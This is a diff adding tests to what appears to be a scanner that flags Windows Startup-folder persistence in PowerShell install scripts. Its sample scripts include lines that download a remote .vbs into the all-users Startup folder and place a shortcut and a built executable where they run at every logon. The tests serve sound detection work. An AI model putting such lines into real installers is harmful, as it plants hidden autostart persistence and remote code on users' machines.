@@ -75,3 +75,35 @@ def test_b_other_verbs_programs_and_unknown_names_stay_quiet() -> None:
         "& $tool.Source install --id Vendor.Tool\n"
     )
     assert codes_at({"install.ps1": script}, _EGRESS) == []
+
+
+# -- A: a program written into a Startup folder, which Explorer starts at every logon ----------------------------------
+
+_PERSISTENCE = "preflight.persistence"
+
+
+def test_a_a_program_put_into_the_startup_folder_is_persistence() -> None:
+    script = (
+        '$StartupDir = [System.Environment]::GetFolderPath("Startup")\n'
+        '$StartupExePath = Join-Path $StartupDir "sync-agent.exe"\n'
+        'Copy-Item "$PSScriptRoot\\tray.lnk" "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"\n'
+        '$all = [Environment]::GetFolderPath("CommonStartup")\n'
+        'Invoke-WebRequest -Uri "https://dl.example-tools.net/run.vbs" -OutFile "$all\\run.vbs"\n'
+        # last: the grammar runs a ``-x="…"`` parameter into the lines after it (their calls get its line)
+        'go build -ldflags="-H windowsgui" -o $StartupExePath .\n'
+    )
+    assert codes_at({"install.ps1": script}, _PERSISTENCE) == [3, 5, 6]
+
+
+def test_a_other_folders_and_non_programs_stay_quiet() -> None:
+    script = (
+        '$StartupDir = [System.Environment]::GetFolderPath("Startup")\n'
+        '$StartupExePath = Join-Path $StartupDir "sync-agent.exe"\n'
+        "if (Test-Path $StartupExePath) { Remove-Item $StartupExePath }\n"  # the uninstall path: removes it
+        'Copy-Item "$PSScriptRoot\\readme.txt" $StartupDir\n'  # a text file is opened, not started
+        '$menu = Join-Path $env:APPDATA "Microsoft\\Windows\\Start Menu\\Programs"\n'
+        'Copy-Item "$PSScriptRoot\\tray.lnk" $menu\n'  # the Start Menu: started only when picked
+        '$docs = [Environment]::GetFolderPath("MyDocuments")\n'
+        'go build -o "$docs\\sync-agent.exe" .\n'
+    )
+    assert codes_at({"install.ps1": script}, _PERSISTENCE) == []
